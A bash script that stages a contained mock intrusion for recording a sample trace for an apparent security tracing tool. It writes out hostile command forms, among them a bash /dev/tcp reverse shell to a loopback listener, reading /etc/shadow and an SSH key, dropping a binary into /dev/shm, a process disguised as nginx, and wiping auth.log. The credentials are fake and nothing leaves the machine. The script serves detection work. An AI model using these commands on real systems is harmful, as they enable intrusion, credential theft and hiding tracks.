#!/usr/bin/env bash
# A small intrusion, played harmlessly for the sample trace samples/attack.rhf
# (make-attack-sample.sh records it with rhf-record). Run it as root: it opens /etc/shadow and
# mounts tmpfs in private mount namespaces.
#
#   1. a web server (a copy of bash named `nginx`, argv[0] "nginx: worker process") spawns a
#      shell that runs the attacker's commands, fed on its standard input as a web shell would;
#   2. the shell runs `id`, opens /etc/shadow (`head -c 0`: it reads none of it, so no
#      password hash of the recording machine ends up in the trace), searches for SSH keys with
#      `find` (in this script's temporary directory, where a fake key waits) and reads the key
#      it found;
#   3. it uses a stolen database password on a command line (`--password=...`) while an AWS
#      access key id sits in its environment;
#   4. it drops a binary into /dev/shm and runs it;
#   5. it opens a reverse shell: bash connects to a listener on 127.0.0.1 and dup2()s the
#      socket onto its standard input, output and error; the listener sends `id; exit`;
#   6. it saves a stolen session token (a JWT) to a file;
#   7. it truncates /var/log/auth.log to cover its tracks.
#
# Every credential is fake. Nothing leaves the machine: the only connection is to a listener
# on 127.0.0.1 that this script starts. Files are written only to a temporary directory
# (removed at the end) and to tmpfs mounted over /dev/shm and /var/log inside private mount
# namespaces (`unshare -m`), which vanish with them. Every step is bounded by a timeout; the
# whole scenario takes about a second.
set -euo pipefail
export PATH=/usr/sbin:/usr/bin:/sbin:/bin
PY=/usr/bin/python3

# Fake credentials (AWS's documented example key id; a made-up password and token).
export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE
DB_PASSWORD=rhf-sample-fake-password-7f3a
JWT=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJyaGYtc2FtcGxlIiwicm9sZSI6ImFkbWluIn0.ZmFrZS1zaWduYXR1cmUtbm90LXJlYWw

work=$(mktemp -d /tmp/rhf-attack.XXXXXX)
cd "$work"
# Shells read nothing of the machine's home and keep no history (HISTFILE set but empty).
export HOME="$work" HISTFILE=
listener=
cleanup() {
    if [ -n "$listener" ]; then kill "$listener" 2>/dev/null || true; fi
    cd /
    rm -rf "$work"
}
trap cleanup EXIT

# A fake private key where the attacker will look for one.
mkdir -p "$work/home/deploy/.ssh"
cat > "$work/home/deploy/.ssh/id_rsa" <<'KEY'
-----BEGIN OPENSSH PRIVATE KEY-----
cmhmLXNhbXBsZS1mYWtlLWtleS1ub3QtYS1yZWFsLWtleQ==
-----END OPENSSH PRIVATE KEY-----
KEY

# The attacker's listener: 127.0.0.1, an ephemeral port (told through a FIFO), 20 s at most.
cat > "$work/listener.py" <<'PYTHON'
import socket, sys
srv = socket.socket()
srv.bind(("127.0.0.1", 0))
srv.listen(1)
srv.settimeout(15)
with open(sys.argv[1], "w") as fifo:
    fifo.write("%d\n" % srv.getsockname()[1])
conn, _ = srv.accept()
conn.settimeout(15)
conn.sendall(b"id; exit\n")
while conn.recv(4096):
    pass
PYTHON
mkfifo "$work/port"
timeout 20 "$PY" "$work/listener.py" "$work/port" &
listener=$!
read -r -t 10 port < "$work/port"

# The commands the web shell receives, one per line. The shells are bash, which fork()s its
# children: dash vfork()s them, and then the child's exec is often recorded before its parent's
# vfork returns, an order the sample should not depend on.
commands="id
head -c 0 /etc/shadow
find $work/home -name id_rsa
cat $work/home/deploy/.ssh/id_rsa > /dev/null
/bin/true --user=app --password=$DB_PASSWORD --host=127.0.0.1
unshare -m bash -c 'mount -t tmpfs rhf-attack /dev/shm && cp /bin/true /dev/shm/.x && /dev/shm/.x'
timeout 15 bash -c 'bash --norc --noprofile -i > /dev/tcp/127.0.0.1/$port 0>&1 2>&1'
echo $JWT > $work/session.jwt
unshare -m bash -c 'mount -t tmpfs rhf-attack /var/log && echo sshd: accepted >> /var/log/auth.log && : > /var/log/auth.log'
"

cp /bin/bash "$work/nginx"
printf '%s' "$commands" | (exec -a 'nginx: worker process' "$work/nginx" -c 'bash; exit 0') > /dev/null
wait "$listener"
listener=
echo "attack scenario played"
